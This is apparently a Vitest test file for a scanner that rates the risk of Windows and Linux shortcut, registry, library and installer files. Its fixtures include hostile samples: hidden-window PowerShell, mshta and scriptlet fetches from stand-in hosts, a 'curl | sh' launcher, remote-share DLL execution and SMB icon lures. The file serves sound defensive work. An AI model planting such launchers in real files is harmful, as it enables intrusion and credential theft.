import { describe, expect, it } from 'vitest';
import { lnkFile } from '../../../test/files/make-disks.ts';
import { carriersIn, text, worstOf } from '../../../test/files/scan-carriers.ts';

const url = (...lines: string[]) => ['[InternetShortcut]', ...lines, ''].join('\r\n');
const SYSTEM = String.raw`..\..\Windows\System32`;

describe('a shortcut of Windows', () => {
  it.each([
    [
      'to a command that hides its window',
      lnkFile({ relative: `${SYSTEM}\\cmd.exe`, args: '/c powershell -w hidden -c calc' }),
    ],
    [
      'to a page that runs',
      lnkFile({ relative: `${SYSTEM}\\mshta.exe`, args: 'https://x.example/a' }),
    ],
    [
      'with a command behind blanks',
      lnkFile({ relative: `${SYSTEM}\\cmd.exe`, args: `${' '.repeat(200)}/c a.exe` }),
    ],
    [
      'that copies from a share and runs it',
      lnkFile({
        relative: `${SYSTEM}\\cmd.exe`,
        args: String.raw`/c copy \\203.0.113.9\s\a.dll . & rundll32 a.dll,x`,
      }),
    ],
    [
      'with a command cut by carets',
      lnkFile({ relative: `${SYSTEM}\\cmd.exe`, args: '/c p^o^w^e^r^s^h^e^l^l -c calc' }),
    ],
  ])('%s is High', async (_what, content) => {
    expect(await carriersIn(content, 'a.lnk')).toContain('shortcut-runs-command (4)');
  });

  it.each([
    [
      'to a program on a strange share',
      lnkFile({ relative: String.raw`\\203.0.113.9\share\setup.exe` }),
    ],
    [
      'that works in one',
      lnkFile({ relative: 'a.exe', folder: String.raw`\\x.example@SSL\DavWWWRoot\a` }),
    ],
  ])('%s is High', async (_what, content) => {
    expect(await carriersIn(content, 'a.lnk')).toContain('shortcut-to-remote-file (4)');
  });

  it('to an interpreter with a command is Medium', async () => {
    const content = lnkFile({ relative: `${SYSTEM}\\wscript.exe`, args: 'notes.js' });
    expect(await carriersIn(content, 'a.lnk')).toEqual(['shortcut-starts-interpreter (3)']);
  });

  it.each([
    ['to a document', lnkFile({ relative: String.raw`..\Documents\minutes.docx` })],
    [
      'to a program',
      lnkFile({ relative: String.raw`..\Program Files\Editor\editor.exe`, args: '--new' }),
    ],
    ['to a document of the company', lnkFile({ relative: String.raw`\\files\minutes\may.docx` })],
    ['to a window for commands', lnkFile({ relative: `${SYSTEM}\\cmd.exe` })],
    [
      'to a panel',
      lnkFile({ relative: `${SYSTEM}\\rundll32.exe`, args: 'shell32.dll,Control_RunDLL main.cpl' }),
    ],
  ])('%s is below Medium', async (_what, content) => {
    expect(await worstOf(content, 'a.lnk')).toBeLessThan(3);
  });
});

describe('an internet shortcut', () => {
  it.each([
    ['to a share by its address', url(String.raw`URL=\\203.0.113.9\docs\a.pdf`)],
    ['to a share with four strokes', url('URL=file:////203.0.113.9/docs/a.pdf')],
    ['to a share by WebDAV', url('URL=file://x.example@80/DavWWWRoot/a.vbs')],
    ['to a program on a share by name', url('URL=file://files.x.example/docs/a.exe')],
    [
      'to a search in a share',
      url(String.raw`URL=search-ms:query=a&crumb=location:%5C%5C203.0.113.9%5Cdocs`),
    ],
    ['to a handler with a hole', url('URL=ms-msdt:/id PCWDiagnostic /skip force')],
    [
      'that works in a strange folder',
      url(
        'URL=C:\\Program Files\\a\\a.exe',
        String.raw`WorkingDirectory=\\x.example@ssl@443\DavWWWRoot\a`,
      ),
    ],
  ])('%s is High', async (_what, content) => {
    expect(await carriersIn(text(content), 'a.url')).toEqual(['shortcut-to-remote-file (4)']);
  });

  it('that downloads what runs is Medium', async () => {
    const found = await carriersIn(text(url('URL=https://x.example/files/a.hta')), 'a.url');
    expect(found).toEqual(['shortcut-downloads (3)']);
  });

  it.each([
    ['of a name is Medium', String.raw`\\x.example\a\b.ico`, 'remote-icon (3)'],
    ['of an address is High', String.raw`\\203.0.113.9\a\b.ico`, 'icon-on-address (4)'],
  ])('whose picture is on a strange computer %s', async (_what, icon, told) => {
    const content = url('URL=https://x.example/', `IconFile=${icon}`);
    expect(await carriersIn(text(content), 'a.url')).toEqual([told]);
  });

  it.each([
    [
      'to a page',
      url('URL=https://www.x.example/a.html', 'IconFile=C:\\Windows\\System32\\shell32.dll'),
    ],
    ['to a share of the company', url(String.raw`URL=file://files/minutes/may.docx`)],
    ['to a private address', url(String.raw`URL=\\192.168.1.10\scans`)],
    ['to settings', url('URL=ms-settings:display')],
    ['to a mail', url('URL=mailto:a@x.example')],
  ])('%s is below Medium', async (_what, content) => {
    expect(await worstOf(text(content), 'a.url')).toBeLessThan(3);
  });
});

describe('another file that a system follows', () => {
  const registry = (key: string, value: string) =>
    `Windows Registry Editor Version 5.00\r\n\r\n[${key}]\r\n${value}\r\n`;
  const RUN = String.raw`HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run`;
  it.each([
    [
      'a library of a strange server',
      'a.library-ms',
      '<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>' +
        '<url>https://x.example/dav</url></simpleLocation></searchConnectorDescription>' +
        '</searchConnectorDescriptionList></libraryDescription>',
      'shortcut-to-remote-file (4)',
    ],
    [
      'settings that start a command',
      'a.SettingContent-ms',
      '<PCSettings><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c powershell -c a' +
        '</DeepLink></ApplicationInformation></PCSettings>',
      'shortcut-runs-command (4)',
    ],
    [
      'a command of a folder with a strange picture',
      'a.scf',
      '[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\a\\b.ico\r\n',
      'icon-on-address (4)',
    ],
    [
      'a key that starts a program',
      'a.reg',
      registry(RUN, '"a"="C:\\\\a\\\\a.exe"'),
      'autostart (3)',
    ],
    [
      'a key that starts a command',
      'a.reg',
      registry(RUN, '"a"="powershell.exe -w hidden -c calc"'),
      'shortcut-runs-command (4)',
    ],
    [
      'a menu that pipes the web into a shell',
      'a.desktop',
      '[Desktop Entry]\nType=Application\nName=a\nExec=bash -c "curl -s https://x.example/a | sh"\n',
      'shortcut-runs-command (4)',
    ],
    [
      'a setup that registers a scriptlet',
      'a.inf',
      '[version]\r\nsignature=$chicago$\r\n[DefaultInstall]\r\nUnRegisterOCXs=O\r\n[O]\r\n' +
        '%11%\\scrobj.dll,NI,https://x.example/a.sct\r\n',
      'shortcut-runs-command (4)',
    ],
  ])('%s', async (_what, name, content, told) => {
    expect(await carriersIn(text(content), name)).toEqual([told]);
  });

  it.each([
    [
      'an editor in a menu',
      'a.desktop',
      '[Desktop Entry]\nType=Application\nName=a\nExec=gedit %U\n',
    ],
    [
      'a colour in the registry',
      'a.reg',
      registry('HKEY_CURRENT_USER\\Control Panel\\Colors', '"Menu"="0 0 0"'),
    ],
    [
      'a driver',
      'a.inf',
      '[Version]\r\nSignature="$Windows NT$"\r\nClass=Printer\r\nCatalogFile=a.cat\r\n',
    ],
  ])('%s is below Medium', async (_what, name, content) => {
    expect(await worstOf(text(content), name)).toBeLessThan(3);
  });
});
